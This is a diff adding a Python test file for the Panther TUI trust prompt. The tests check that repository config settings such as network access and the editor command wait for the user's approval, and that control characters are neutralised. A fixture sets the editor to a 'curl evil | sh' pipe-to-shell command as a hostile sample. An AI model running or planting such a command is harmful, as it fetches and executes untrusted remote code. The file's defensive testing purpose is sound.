@@ -1,0 +1,143 @@
+"""A checkout whose settings reach further: the question, its answers, and the status bar."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from textual.pilot import Pilot
+
+from panther_engine.events import RepositoryChanged
+from panther_tui.app.app import PantherApp
+from panther_tui.app.link import EngineLink
+from panther_tui.overlays.reading.trust import ALLOWS, TrustScreen, trust_lines
+from panther_tui.settings.config import find_widening, load_config
+from panther_tui.settings.trust import GUARDED, Widening, is_refused, is_trusted
+from tests.tui.app.test_app import ALL
+from tests.tui.fake_engine import FakeEngine, done, repository, screen_text, shows, wait_for
+
+
+@pytest.fixture
+def root(tmp_path: Path) -> Path:
+    (tmp_path / "panther-tui.toml").write_text('network = true\neditor = "curl evil | sh"\n')
+    return tmp_path
+
+
+class Opened:
+    def __init__(self, root: Path, trust: bool | None = None) -> None:
+        self.root = root
+        self.engines = [FakeEngine(ALL)]
+        config, problems = load_config(root, trust=trust)
+        self.app = PantherApp(
+            self.engines[0], config=config, problems=problems, restart=self.start, trust=trust
+        )
+
+    def start(self) -> EngineLink:
+        """Another engine."""
+        self.engines.append(FakeEngine(ALL))
+        return self.engines[-1]
+
+    def values(self) -> dict[str, object]:
+        return {one.name: one.value for one in find_widening(self.root)}
+
+
+@asynccontextmanager
+async def opened(
+    root: Path, trust: bool | None = None
+) -> AsyncIterator[tuple[Pilot[None], Opened]]:
+    it = Opened(root, trust)
+    async with it.app.run_test(size=(160, 45)) as pilot:
+        events = repository(it.engines[0], done(3))
+        it.engines[0].say(
+            *(
+                replace(one, root=str(root)) if isinstance(one, RepositoryChanged) else one
+                for one in events
+            )
+        )
+        await wait_for(pilot, lambda: it.app.state.generation)
+        yield pilot, it
+
+
+async def test_opening_asks_with_file_line_and_value_while_the_app_goes_on(root: Path) -> None:
+    async with opened(root) as (pilot, it):
+        await shows(pilot, "Trust this checkout?", "network = true", "panther-tui.toml:1")
+        await shows(pilot, 'editor = "curl evil | sh"', "panther-tui.toml:2", ALLOWS["editor"])
+        await wait_for(pilot, lambda: it.app.state.last_run)
+        assert not it.app.config.network
+        await pilot.press("enter", "space", "y")
+        assert isinstance(it.app.screen, TrustScreen), "no key of habit answers"
+
+
+async def test_trusted_they_count_at_once_and_are_remembered(root: Path) -> None:
+    async with opened(root) as (pilot, it):
+        await shows(pilot, "Trust this checkout?")
+        await pilot.press("t")
+        await wait_for(pilot, lambda: len(it.engines) == 2)
+        assert it.app.config.network
+        assert it.engines[0].closed
+        assert is_trusted(root, it.values())
+        await shows(pilot, "They count now.")
+        assert "untrusted" not in screen_text(it.app)
+
+
+async def test_not_now_is_said_in_the_bar_and_asked_again_from_there(root: Path) -> None:
+    async with opened(root) as (pilot, it):
+        await shows(pilot, "Trust this checkout?")
+        await pilot.press("escape")
+        await shows(pilot, "untrusted 2 settings")
+        assert not is_trusted(root, it.values())
+        assert not is_refused(root, it.values())
+        assert len(it.engines) == 1
+        await it.app.main.action_do("trust")
+        await shows(pilot, "Trust this checkout?")
+
+
+async def test_never_is_remembered_until_a_setting_changes(root: Path) -> None:
+    async with opened(root) as (pilot, it):
+        await shows(pilot, "Trust this checkout?")
+        await pilot.press("N")
+        await wait_for(pilot, lambda: is_refused(root, it.values()))
+    async with opened(root) as (pilot, it):
+        await shows(pilot, "untrusted 2 settings")
+        assert it.app.screen is it.app.main
+        (root / "panther-tui.toml").write_text("network = true\nmemory = 0\n")
+        it.app.follow_settings()
+        await shows(pilot, "Trust this checkout?", "memory = 0")
+        assert not it.app.config.network
+
+
+async def test_what_changes_under_the_question_is_not_what_was_allowed(root: Path) -> None:
+    async with opened(root) as (pilot, it):
+        await shows(pilot, "Trust this checkout?")
+        (root / "panther-tui.toml").write_text('network = true\neditor = "worse"\n')
+        await pilot.press("t")
+        await shows(pilot, "Trust this checkout?", 'editor = "worse"')
+        assert not it.app.config.network
+        assert len(it.engines) == 1
+
+
+@pytest.mark.parametrize(("trust", "network"), [(True, True), (False, False)])
+async def test_with_the_command_lines_word_nothing_is_asked(
+    root: Path, trust: bool, network: bool
+) -> None:
+    async with opened(root, trust) as (pilot, it):
+        await wait_for(pilot, lambda: it.app.state.last_run)
+        it.app.follow_settings(force=True)
+        await pilot.pause()
+        assert it.app.screen is it.app.main
+        assert it.app.config.network is network
+        assert ("untrusted 2 settings" in screen_text(it.app)) is not trust
+
+
+def test_each_guarded_setting_says_what_it_allows() -> None:
+    assert set(ALLOWS) == GUARDED
+
+
+def test_no_value_is_a_control_sequence_or_hides_its_end() -> None:
+    lines = trust_lines("/r", [Widening("editor", "a\x1b[2Jb\u202ec", "f\x07.toml", 1)])
+    text = "".join(line.plain for line in lines)
+    assert text.isprintable()
+    assert "b" in text
